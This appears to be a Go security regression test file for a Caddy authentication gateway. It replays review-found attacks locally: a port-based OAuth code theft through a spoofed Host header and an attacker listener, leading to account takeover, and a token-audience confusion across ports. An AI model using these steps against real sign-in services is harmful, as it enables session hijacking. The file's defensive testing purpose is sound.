package caddymodule

import (
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
)

// Attacks a security review of the trust-boundary changes found, through
// a real Caddy. Each test failed while the attack worked.

// TestAttackPortCodeTheft: the host allow-list ignores the port, so an
// attacker who can listen on another port of a configured host name gets
// a pushed redirect URI there, has a signed-in victim open the sign-in
// link (the gateway client skips consent), receives the code, and
// redeems it through the gateway with his own flow cookie: the victim's
// session.
func TestAttackPortCodeTheft(t *testing.T) {
	// The attacker's listener on another port of the same host name.
	var mu sync.Mutex
	var stolen url.Values
	evil := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		stolen = r.URL.Query()
		mu.Unlock()
		w.Write([]byte("thanks")) //nolint:errcheck
	}))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	evil.Listener = l
	evil.Start()
	defer evil.Close()
	evilHost := strings.TrimPrefix(evil.URL, "http://")

	g := startGateway(t, gatewayClients, `accept bearer`, `accept session`)

	// The victim is signed in at the authorization server.
	victim := newBrowser(g.testCaddy)
	if r := victim.signInThroughGateway(g.app + "/page"); r.status != 200 {
		t.Fatalf("victim sign-in: %d", r.status)
	}

	// 1. The attacker starts a sign-in on the gateway with Host naming the
	// configured host on his port.
	attacker := fromAddress("127.0.0.1")
	req, _ := http.NewRequest(http.MethodGet, g.app+"/page", nil)
	req.Host = evilHost
	req.Header.Set("Accept", "text/html")
	start := doWith(t, attacker, req)
	if start.status != http.StatusFound {
		if start.status != http.StatusBadRequest || start.header.Get("Location") != "" {
			t.Errorf("sign-in with a Host naming another port: %d %v; want a 400 page", start.status, start.header)
		}
		return
	}
	var flowCookie *http.Cookie
	for _, c := range (&http.Response{Header: start.header}).Cookies() {
		if strings.HasPrefix(c.Name, "authgate_flow_") {
			flowCookie = c
		}
	}
	link := start.header.Get("Location")
	t.Logf("attacker's sign-in link: %s", link)

	// 2. The victim opens the link: no consent for the gateway client.
	r := victim.get(link)
	loc := r.header.Get("Location")
	t.Logf("victim redirected to: %d %s", r.status, loc)
	if !strings.HasPrefix(loc, evil.URL+"/.authgate/callback?") {
		t.Logf("the code did not go to the attacker's port: %d %q", r.status, loc)
		return
	}
	victim.get(loc) // the browser follows to the attacker's listener
	mu.Lock()
	q := stolen
	mu.Unlock()
	if q.Get("code") == "" {
		t.Fatal("the listener saw no code")
	}

	// 3. The attacker redeems the code through the gateway.
	req, _ = http.NewRequest(http.MethodGet, g.app+"/.authgate/callback?"+q.Encode(), nil)
	req.Host = evilHost
	req.AddCookie(flowCookie)
	cb := doWith(t, attacker, req)
	var session *http.Cookie
	for _, c := range (&http.Response{Header: cb.header}).Cookies() {
		if c.Name == "authgate_session_gw" && c.Value != "" {
			session = c
		}
	}
	if session == nil {
		t.Logf("callback on the attacker's Host: %d %s", cb.status, cb.body)
		return
	}
	req, _ = http.NewRequest(http.MethodGet, g.app+"/page", nil)
	req.AddCookie(session)
	page := doWith(t, attacker, req)
	if page.status == 200 && strings.Contains(string(page.body), "sub=alice ") {
		t.Errorf("VULNERABLE: account takeover through a Host on another port: the attacker is alice: %s", page.body)
	}
}

// TestAttackAudiencePort: a token for the resource on another port of the
// same host (the forward_auth site here) is accepted by the app when the
// Host header names that port, and vice versa through the verify
// endpoint.
func TestAttackAudiencePort(t *testing.T) {
	g := startGateway(t, gatewayClients, `accept bearer`, `accept session`)
	fwdHost := strings.TrimPrefix(g.fwd, "http://")
	appHost := strings.TrimPrefix(g.app, "http://")
	forFwd := g.token("apisvc", "apisvc-secret", url.Values{"resource": {g.fwd}})
	forApp := g.token("apisvc", "apisvc-secret", url.Values{"resource": {g.app}})

	if r := g.call("GET", g.app+"/api/x", forFwd); r.status != 401 {
		t.Fatalf("baseline: a token for the other resource at the app: %d", r.status)
	}
	req, _ := http.NewRequest(http.MethodGet, g.app+"/api/x", nil)
	req.Host = fwdHost
	req.Header.Set("Authorization", "Bearer "+forFwd)
	if r := do(t, req); r.status == 200 {
		t.Errorf("VULNERABLE: the app accepted a token for %s when Host named that port: %s", g.fwd, r.body)
	}

	if r := g.call("GET", g.fwd+"/x", forApp); r.status != 401 {
		t.Fatalf("baseline: a token for the app at the forward_auth site: %d %s", r.status, r.body)
	}
	req, _ = http.NewRequest(http.MethodGet, g.fwd+"/x", nil)
	req.Host = appHost
	req.Header.Set("Authorization", "Bearer "+forApp)
	if r := do(t, req); r.status == 200 {
		t.Errorf("VULNERABLE: the verify endpoint accepted a token for %s when Host named that port: %s", g.app, r.body)
	}
}
